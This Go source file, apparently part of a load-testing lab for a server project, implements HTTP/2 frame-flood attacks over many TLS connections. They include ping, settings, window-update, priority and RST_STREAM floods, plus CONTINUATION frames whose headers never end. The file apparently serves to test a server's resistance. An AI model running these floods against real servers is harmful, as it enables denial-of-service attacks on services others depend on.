package hostile

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"math/rand/v2"
	"strings"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/slicefeed/slicefeed/lab/load"
)

// floodConns is how many connections a flood of frames has, as many as its client is let have.
const floodConns = 16

// flood sends one kind of frame as fast as it is taken, on all connections that a client may have, each
// with a stream of its own. Answers are read only if the attack says so: what is not read fills the
// inventory's buffers.
func flood(reads bool, frame func(*http2.Framer, uint32) error) func(context.Context, *inventory, *rand.Rand) {
	return func(ctx context.Context, i *inventory, _ *rand.Rand) {
		cfg := i.as(enemy)
		var all sync.WaitGroup
		defer all.Wait()
		for range floodConns {
			all.Go(func() {
				for ctx.Err() == nil {
					if conn, err := (&tls.Dialer{Config: cfg}).DialContext(ctx, "tcp", i.Address()); err == nil {
						floodOne(ctx, conn.(*tls.Conn), reads, frame)
					}
				}
			})
		}
	}
}

func floodOne(ctx context.Context, conn *tls.Conn, reads bool, frame func(*http2.Framer, uint32) error) {
	var reading sync.WaitGroup
	defer reading.Wait()
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	if reads {
		reading.Go(func() { io.Copy(io.Discard, conn) })
	}
	var batch bytes.Buffer
	batch.WriteString(http2.ClientPreface)
	framer := http2.NewFramer(&batch, nil)
	framer.WriteSettings()
	framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: watchHeaders(), EndHeaders: true})
	framer.WriteData(1, false, make([]byte, 5)) // an empty request
	for n := uint32(0); ctx.Err() == nil; {
		for range 100 {
			if frame(framer, n) != nil {
				return
			}
			n++
		}
		if _, err := conn.Write(batch.Bytes()); err != nil {
			return
		}
		batch.Reset()
	}
}

func watchHeaders() []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, f := range load.RequestHeaders {
		encoder.WriteField(f)
	}
	return block.Bytes()
}

// frameFloods are frames that are no calls. The call before them is counted when it ends, or not at all
// where a flood has the connection closed.
var frameFloods = []attack{
	{name: "pings", silent: true, does: flood(true, func(f *http2.Framer, n uint32) error { return f.WritePing(false, [8]byte{byte(n)}) })},
	{
		name:   "answers to pings that nobody sent",
		silent: true,
		does:   flood(false, func(f *http2.Framer, n uint32) error { return f.WritePing(true, [8]byte{byte(n)}) }),
	},
	{name: "settings, whose answers are not read", silent: true, does: flood(false, func(f *http2.Framer, n uint32) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: n%2 + 1})
	})},
	{
		name:   "windows of the connection",
		silent: true,
		does:   flood(false, func(f *http2.Framer, _ uint32) error { return f.WriteWindowUpdate(0, 1) }),
	},
	{
		name:   "windows of a stream that is not read",
		silent: true,
		does:   flood(false, func(f *http2.Framer, _ uint32) error { return f.WriteWindowUpdate(1, 1) }),
	},
	{name: "priorities of streams that are not there", silent: true, does: flood(true, func(f *http2.Framer, n uint32) error {
		return f.WritePriority(2*n+3, http2.PriorityParam{Weight: 1})
	})},
	{
		name:   "frames of data without any",
		silent: true,
		does:   flood(true, func(f *http2.Framer, _ uint32) error { return f.WriteData(1, false, nil) }),
	},
	{
		name:   "resets of streams that are not there",
		silent: true,
		does:   flood(true, func(f *http2.Framer, n uint32) error { return f.WriteRSTStream(2*n+3, http2.ErrCodeCancel) }),
	},
	{name: "headers that never end", silent: true, does: flood(true, func(f *http2.Framer, n uint32) error {
		if n == 0 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 3, BlockFragment: watchHeaders()})
		}
		return f.WriteContinuation(3, false, []byte("\x00\x01x\x7f\x81\x07"+strings.Repeat("y", 1024)))
	})},
	{name: "headers that never end, in empty pieces", silent: true, does: flood(true, func(f *http2.Framer, n uint32) error {
		if n == 0 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 3, BlockFragment: watchHeaders()})
		}
		return f.WriteContinuation(3, false, nil)
	})},
}
